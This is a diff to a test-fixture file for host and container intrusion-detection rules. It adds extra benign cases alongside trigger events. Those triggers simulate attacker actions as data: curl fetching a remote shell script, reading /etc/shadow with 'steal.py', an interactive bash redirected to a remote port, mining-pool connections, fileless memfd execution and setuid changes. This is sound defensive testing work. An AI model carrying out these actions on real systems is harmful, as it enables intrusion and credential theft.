@@ -11,11 +11,13 @@ export interface RuleCase {
   benign: EventInput;
   /** Texts the trigger's formatted output must contain (who, what, which object). */
   output: string[];
+  /** More benign neighbours, where one is not enough to pin the rule's edge. */
+  alsoBenign?: EventInput[];
 }
 
 const redis = container({ id: 'aaaaaaaaaaaa', name: 'cache', image: 'redis:7', imageRepository: 'redis', imageTag: '7' });
 const withDockerSock = container({
-  id: 'bbbbbbbbbbbb', name: 'portainer', image: 'portainer/portainer-ce:2', imageRepository: 'portainer/portainer-ce',
+  id: 'bbbbbbbbbbbb', name: 'portainer', image: 'portainer/portainer-ce:2', imageRepository: 'portainer/portainer-ce', imageTag: '2',
   mounts: [{ source: '/var/run/docker.sock', dest: '/var/run/docker.sock', mode: '', rw: true, propagation: 'rprivate' }],
 });
 const privileged = container({ id: 'cccccccccccc', name: 'priv', privileged: true });
@@ -26,6 +28,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: exec(containerProc('bash', { tty: 34816 })),
     benign: exec(containerProc('bash', { tty: 0, args: ['-c', 'nginx -t'] })),
     output: ['process=bash', 'parent=containerd-shim', 'container_id=0123456789ab', 'image=docker.io/library/nginx:1.27', 'user=root'],
+    alsoBenign: [exec(hostProc('bash', { tty: 34816 }))],
   },
   'Saker Unexpected Program in Single-App Container': {
     trigger: exec(containerProc('curl', { args: ['http://203.0.113.9/x.sh'] }, redis)),
@@ -41,12 +44,14 @@ export const CASES: Record<string, RuleCase> = {
     trigger: exec(containerProc('portainer', { vpid: 1 }, withDockerSock)),
     benign: exec(containerProc('nginx', { vpid: 1 })),
     output: ['/var/run/docker.sock', 'container_id=bbbbbbbbbbbb', 'image=portainer/portainer-ce'],
+    alsoBenign: [exec(containerProc('bash', { vpid: 7 }, withDockerSock))],
   },
   'Saker Package Management in Container': {
     trigger: exec(containerProc('apt-get', { args: ['install', '-y', 'netcat'] })),
     // dpkg started by apt: only the outer command alerts
     benign: exec(containerProc('dpkg', { args: ['--configure', '-a'], parent: containerProc('apt-get') })),
     output: ['process=apt-get', 'command=apt-get install -y netcat', 'container_id=0123456789ab'],
+    alsoBenign: [exec(hostProc('apt-get', { args: ['upgrade'] }))],
   },
   'Saker Dropped Binary Executed in Container': {
     trigger: exec(containerProc('kinsing', { exe: '/tmp/kinsing', upperLayer: true })),
@@ -72,6 +77,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: read(hostProc('python3', { args: ['steal.py'] }), '/etc/shadow'),
     benign: read(hostProc('unix_chkpwd'), '/etc/shadow'),
     output: ['process=python3', 'file=/etc/shadow', 'parent=bash', 'container_id=host'],
+    alsoBenign: [read(hostProc('python3'), '/etc/passwd'), write(hostProc('vipw'), '/etc/shadow')],
   },
   'Saker Write Below Etc': {
     trigger: write(hostProc('tee', { args: ['/etc/cron.d/job'] }), '/etc/cron.d/job'),
@@ -93,6 +99,7 @@ export const CASES: Record<string, RuleCase> = {
     // bash rewriting its own history on exit
     benign: truncate(hostProc('bash', { user: 'alice' }), '/home/alice/.bash_history'),
     output: ['process=rm', 'name=/home/alice/.bash_history', 'user=alice'],
+    alsoBenign: [unlinkat(hostProc('rm'), '/home/alice/notes.txt')],
   },
   'Saker Log File Cleared': {
     trigger: truncate(hostProc('truncate', { args: ['-s0', '/var/log/auth.log'] }), '/var/log/auth.log'),
@@ -103,16 +110,19 @@ export const CASES: Record<string, RuleCase> = {
     trigger: dup2(hostProc('bash', { args: ['-i'] }), 0),
     benign: dup2(hostProc('bash', { args: ['-c', 'ls | wc'] }), 1, true),
     output: ['process=bash', 'connection=10.1.2.3:40000->203.0.113.7:4444', 'target_fd=0'],
+    alsoBenign: [dup2(hostProc('xinetd'), 0), { ...dup2(hostProc('python3'), 3), res: 3 }],
   },
   'Saker Network Activity from Silent System Binary': {
     trigger: connect(hostProc('ls'), '198.51.100.20', 443, EINPROGRESS),
     benign: connect(hostProc('curl'), '198.51.100.20', 443),
     output: ['process=ls', 'connection=10.1.2.3:40000->198.51.100.20:443'],
+    alsoBenign: [connect(hostProc('ls'), '198.51.100.20', 443, -111)],
   },
   'Saker Connection to Mining Pool Port': {
     trigger: connect(containerProc('python3'), '198.51.100.30', 3333),
     benign: connect(containerProc('python3'), '198.51.100.30', 443),
     output: ['process=python3', 'port=3333', 'container_id=0123456789ab'],
+    alsoBenign: [connect(containerProc('python3'), '127.0.0.1', 3333)],
   },
   'Saker Fileless Execution via memfd': {
     trigger: exec(hostProc('3', { exe: 'memfd:payload', memfd: true })),
@@ -153,6 +163,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: chmod(hostProc('chmod', { args: ['u+s', '/tmp/sh'] }), '/tmp/sh', MODE.SUID | MODE.RWXR_XR_X),
     benign: chmod(hostProc('chmod', { args: ['755', '/tmp/sh'] }), '/tmp/sh', MODE.RWXR_XR_X),
     output: ['process=chmod', 'file=/tmp/sh', 'S_ISUID'],
+    alsoBenign: [chmod(hostProc('dpkg'), '/usr/bin/passwd', MODE.SUID | MODE.RWXR_XR_X)],
   },
   'Saker User Management Binary Run': {
     trigger: exec(hostProc('useradd', { args: ['-m', 'backup2'], parent: hostShell })),
